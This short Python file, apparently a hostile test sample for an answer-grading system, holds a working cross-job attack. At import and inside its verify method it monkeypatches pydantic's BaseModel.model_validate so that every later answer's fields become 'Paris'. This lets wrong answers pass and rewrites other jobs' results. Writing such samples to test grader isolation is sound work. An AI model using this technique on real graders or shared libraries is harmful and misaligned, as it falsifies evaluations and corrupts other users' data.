# cross-job attack: replace pydantic's model_validate for every later answer
# (no escape needed: setattr on an allowed module). Every value becomes "Paris",
# so later jobs' wrong answers pass and their parsed fields are rewritten.
import pydantic
from verifleet.templates import BaseAnswer


def _forged(cls, obj, *args, **kwargs):
    return cls.model_construct(**{key: "Paris" for key in obj})


setattr(pydantic.BaseModel, "model_validate", classmethod(_forged))


class Answer(BaseAnswer):
    value: str

    def model_post_init(self, context):
        self.correct = {"value": "attacker"}

    def verify(self) -> bool:
        setattr(pydantic.BaseModel, "model_validate", classmethod(_forged))
        return False
